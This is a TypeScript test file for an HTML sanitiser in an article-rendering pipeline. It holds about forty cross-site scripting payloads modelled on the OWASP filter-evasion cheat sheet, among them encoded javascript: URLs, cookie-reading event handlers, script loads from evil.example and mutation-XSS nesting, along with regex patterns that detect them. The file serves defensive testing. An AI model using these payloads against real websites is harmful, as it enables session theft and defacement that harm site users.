import { prepareArticle } from './prepare';
import { sanitizePostHtml } from './sanitize';

// Payloads in the style of the OWASP XSS filter-evasion cheat sheet.
const PAYLOADS = [
  '<script>alert("XSS")</script>',
  '<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>',
  '<IMG SRC="javascript:alert(\'XSS\');">',
  '<IMG SRC=javascript:alert(&quot;XSS&quot;)>',
  "<IMG SRC=JaVaScRiPt:alert('XSS')>",
  '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>',
  '<a onmouseover="alert(document.cookie)">xxs link</a>',
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>',
  '<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>',
  '<IMG SRC="jav\tascript:alert(\'XSS\');">',
  '<IMG SRC="jav&#x0A;ascript:alert(\'XSS\');">',
  '<IMG SRC=" &#14;  javascript:alert(\'XSS\');">',
  '<SCRIPT/XSS SRC="https://evil.example/xss.js"></SCRIPT>',
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
  '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
  '<IMG SRC="https://evil.example/x.png" onerror="alert(1)">',
  '<svg/onload=alert("XSS")>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe src="https://evil.example/embed"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<a href="javascript:alert(1)">click</a>',
  '<a href="JaVaScRiPt:alert(1)">click</a>',
  '<a href="&#106;avascript:alert(1)">click</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
  '<a href="vbscript:msgbox(1)">click</a>',
  '<object data="https://evil.example/x.swf"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<form action="https://evil.example"><input name="x"></form>',
  '<div style="background-image: url(javascript:alert(1))">styled</div>',
  "<STYLE>@import'https://evil.example/xss.css';</STYLE>",
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(1);">',
  '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
  '<BASE HREF="javascript:alert(\'XSS\');//">',
  '<TABLE BACKGROUND="javascript:alert(\'XSS\')"><tr><td>x</td></tr></TABLE>',
  '<DIV data-video-url="javascript:alert(1)"></DIV>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<img src=x:alert(alt) onerror=eval(src) alt=0>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><script>alert(1)</script></template>',
  '<div class="fixed inset-0 z-50 bg-white">overlay</div>',
];

function assertSafe(html: string) {
  expect(html).not.toMatch(/<script/i);
  expect(html).not.toMatch(/\son[a-z]+\s*=/i);
  expect(html).not.toMatch(/javascript:/i);
  expect(html).not.toMatch(/vbscript:/i);
  expect(html).not.toMatch(/data:text/i);
  expect(html).not.toMatch(/<(object|embed|form|input|style|meta|link|base|svg|math)\b/i);
  expect(html).not.toMatch(/\sstyle\s*=/i);
  expect(html).not.toMatch(/srcdoc/i);
  expect(html).not.toMatch(/evil\.example\/embed/);
  expect(html).not.toMatch(/\bfixed\b|\binset-0\b/);
}

describe('sanitizePostHtml', () => {
  it.each(PAYLOADS.map((p) => [p]))('neutralises %s', (payload) => {
    assertSafe(sanitizePostHtml(payload));
    assertSafe(prepareArticle(`<p>before</p>${payload}<p>after</p>`).html);
  });

  it('keeps ordinary content, YouTube iframes and WordPress classes', () => {
    const html = sanitizePostHtml(
      '<figure class="wp-block-embed is-provider-youtube"><iframe src="https://www.youtube.com/embed/dQw4w9WgXcQ" title="Interview"></iframe></figure>' +
        '<p class="has-text-align-center">Text <a href="https://example.com" target="_blank">link</a></p><img src="https://cms.example.com/a.png" width="800" height="600" alt="Chart">',
    );
    expect(html).toContain('class="wp-block-embed is-provider-youtube"');
    expect(html).toContain('src="https://www.youtube.com/embed/dQw4w9WgXcQ"');
    expect(html).toContain('rel="noopener noreferrer"');
    expect(html).toContain('width="800"');
    const links = sanitizePostHtml(
      '<a href="/insights/jobs">in</a><a href="#method">jump</a><img src="/media/a.png" alt="">',
    );
    expect(links).toBe(
      '<a href="/insights/jobs">in</a><a href="#method">jump</a><img src="/media/a.png" alt="" />',
    );
  });

  it('never emits a JSON data block as script, in the prepared article either', () => {
    const prepared = prepareArticle(
      '<div data-four-forces><script type="application/json">{"interviewee":"</script><script>alert(1)</script>"}</script></div>',
    );
    assertSafe(prepared.html);
  });

  it('sanitises an accordion item’s contentHtml like the post', () => {
    const prepared = prepareArticle(
      // Encoded as a careful editor tool does: '<' as \u003c, so the JSON cannot close its script.
      `<div data-accordion><script type="application/json">${JSON.stringify([
        {
          id: 'a',
          title: 'Q',
          contentHtml:
            '<p onclick="x()">Answer<script>alert(1)</script></p><a href="javascript:y()">l</a>',
        },
      ]).replace(/</g, '\\u003c')}</script></div>`,
    );
    const widget = Object.values(prepared.widgets)[0];
    expect(widget?.kind).toBe('accordion');
    if (widget?.kind === 'accordion') assertSafe(widget.items[0]!.contentHtml);
  });
});
